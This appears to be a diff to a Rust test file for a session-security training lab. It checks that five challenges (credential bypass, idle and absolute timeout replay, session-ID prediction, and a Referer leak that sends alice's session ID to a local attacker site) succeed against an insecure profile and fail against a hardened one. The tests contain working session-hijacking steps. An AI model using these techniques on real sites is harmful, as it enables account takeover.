@@ -38,6 +38,8 @@ async fn logout_reuse(class: &RunningClass, student: &Student) -> bool {
 
 /// The copy of alice's cookie the lab page shows (the stories' premise).
 async fn copy_of_alices_cookie(student: &Student) -> String {
+    let taken = student.hub_post("/lab/copy", &[]).await;
+    assert_eq!(taken.status(), StatusCode::SEE_OTHER);
     let lab = student.hub_get("/lab").await;
     let start = lab.find("<code id=\"copy\">").expect("the copy") + "<code id=\"copy\">".len();
     let copy = lab[start..lab[start..].find('<').unwrap() + start].to_owned();
@@ -380,6 +382,188 @@ async fn a_laptop_session_outlives_the_phones_password_change_and_log_out_everyw
             lab.contains("pressed &quot;Log out everywhere&quot;"),
             "{lab}"
         );
+        class.shutdown().await;
+    }
+}
+
+/// The app's own form token on `page`, or nothing (`csrf-token` off).
+fn form_token(page: &str) -> String {
+    page.split("name=\"csrf_token\" value=\"")
+        .nth(1)
+        .and_then(|rest| rest.split('"').next())
+        .unwrap_or("")
+        .to_owned()
+}
+
+/// Logs in to the student's app as `user` with `password`, as a person at
+/// the form would (the page's token, the app's Origin); the session's cookie.
+async fn log_in(student: &Student, user: &str, password: &str) -> (StatusCode, String) {
+    let login = student
+        .client
+        .get(student.app("/login"))
+        .send()
+        .await
+        .unwrap();
+    let anonymous = common::set_cookie_pair(&login).expect("an anonymous session");
+    let token = form_token(&login.text().await.unwrap());
+    let answer = student
+        .client
+        .post(student.app("/login"))
+        .header("cookie", &anonymous)
+        .header(
+            "origin",
+            format!("http://app.{}.localhost:{}", student.name, student.port),
+        )
+        .form(&[
+            ("username", user),
+            ("password", password),
+            ("csrf_token", token.as_str()),
+        ])
+        .send()
+        .await
+        .unwrap();
+    let cookie = common::set_cookie_pair(&answer).unwrap_or(anonymous);
+    (answer.status(), cookie)
+}
+
+/// credential-bypass: alice's name with a made-up password.
+async fn credential_bypass(class: &RunningClass, student: &Student) -> bool {
+    let (_, cookie) = log_in(student, "alice", "made-up").await;
+    let (_, body, _) = student.app_get("/account", Some(&cookie)).await;
+    body.contains(&note_of(class, &student.name))
+}
+
+/// idle-timeout: alice walks away, 31 minutes pass, the copy is replayed.
+async fn idle_timeout(class: &RunningClass, student: &Student) -> bool {
+    student.send_alice(true).await;
+    let copy = copy_of_alices_cookie(student).await;
+    student.hub_post("/lab/time", &[("minutes", "31")]).await;
+    let (_, body, _) = student.app_get("/account", Some(&copy)).await;
+    body.contains(&note_of(class, &student.name))
+}
+
+/// absolute-timeout: the copy kept busy every 50 minutes for 9 hours.
+async fn absolute_timeout(class: &RunningClass, student: &Student) -> bool {
+    student.send_alice(true).await;
+    let copy = copy_of_alices_cookie(student).await;
+    for _ in 0..11 {
+        student.app_get("/account", Some(&copy)).await;
+        student.hub_post("/lab/time", &[("minutes", "50")]).await;
+    }
+    let (_, body, _) = student.app_get("/account", Some(&copy)).await;
+    body.contains(&note_of(class, &student.name))
+}
+
+/// hijack-predict: bob's own anonymous ID, then alice logs in; the IDs just
+/// after bob's, tried on /account.
+async fn hijack_predict(class: &RunningClass, student: &Student) -> bool {
+    use sessionlab_attack::scenarios::hijack_predict::{decode_id, encode_id};
+    let (_, _, cookie) = student.app_get("/login", None).await;
+    let cookie = cookie.expect("an anonymous session");
+    let mine = cookie.split_once('=').unwrap().1.to_owned();
+    student.send_alice(true).await;
+    let Some(value) = decode_id(&mine) else {
+        return false; // random IDs: nothing to count from
+    };
+    for next in 1..=5 {
+        let guess = format!("sid={}", encode_id(value + next));
+        let (_, body, _) = student.app_get("/account", Some(&guess)).await;
+        if body.contains(&note_of(class, &student.name)) {
+            return true;
+        }
+    }
+    false
+}
+
+/// referer-leak: a link in the guestbook to the attacker's site; alice clicks
+/// it from a page whose URL carries her ID; the access log's Referer has it.
+async fn referer_leak(class: &RunningClass, student: &Student) -> bool {
+    let (_, cookie) = log_in(student, "bob", "builder").await;
+    let page = student
+        .client
+        .get(student.app("/guestbook"))
+        .header("cookie", &cookie)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let link = format!("http://ann.attacker.localhost:{}/hello", student.port);
+    student
+        .client
+        .post(student.app("/guestbook"))
+        .header("cookie", &cookie)
+        .header(
+            "origin",
+            format!("http://app.ann.localhost:{}", student.port),
+        )
+        .form(&[
+            ("message", format!("Look: {link}").as_str()),
+            ("csrf_token", form_token(&page).as_str()),
+        ])
+        .send()
+        .await
+        .unwrap();
+    student.send_alice(true).await;
+    let lab = class.class.lab("ann").unwrap();
+    let leaked: Vec<String> = lab
+        .site
+        .log()
+        .iter()
+        .filter_map(|hit| hit.request.referer.clone())
+        .filter_map(|referer| {
+            referer
+                .split("sid=")
+                .nth(1)
+                .map(|id| id.split('&').next().unwrap_or("").to_owned())
+        })
+        .collect();
+    for id in leaked {
+        let (_, body, _) = student
+            .app_get("/account", Some(&format!("sid={id}")))
+            .await;
+        if body.contains(&note_of(class, &student.name)) {
+            return true;
+        }
+    }
+    false
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_other_challenges_solve_against_insecure_and_stay_open_against_hardened() {
+    for (profile, expected) in [
+        (ProfileName::Insecure, true),
+        (ProfileName::Hardened, false),
+    ] {
+        let class = class(profile, BotBrowser::Sim).await;
+        // One student per challenge, so no attempt leans on another's state.
+        let cases: [(&str, &str); 5] = [
+            ("credential-bypass", "s1"),
+            ("idle-timeout", "s2"),
+            ("absolute-timeout", "s3"),
+            ("hijack-predict", "s4"),
+            ("referer-leak", "ann"),
+        ];
+        for (challenge, name) in cases {
+            let student = Student::sign_in(&class, name).await;
+            let shown = match challenge {
+                "credential-bypass" => credential_bypass(&class, &student).await,
+                "idle-timeout" => idle_timeout(&class, &student).await,
+                "absolute-timeout" => absolute_timeout(&class, &student).await,
+                "hijack-predict" => hijack_predict(&class, &student).await,
+                _ => referer_leak(&class, &student).await,
+            };
+            assert_eq!(
+                shown, expected,
+                "{profile}: {challenge} showed alice's note"
+            );
+            assert_eq!(
+                student.solved(challenge).await,
+                expected,
+                "{profile}: {challenge} on the scoreboard"
+            );
+        }
         class.shutdown().await;
     }
 }
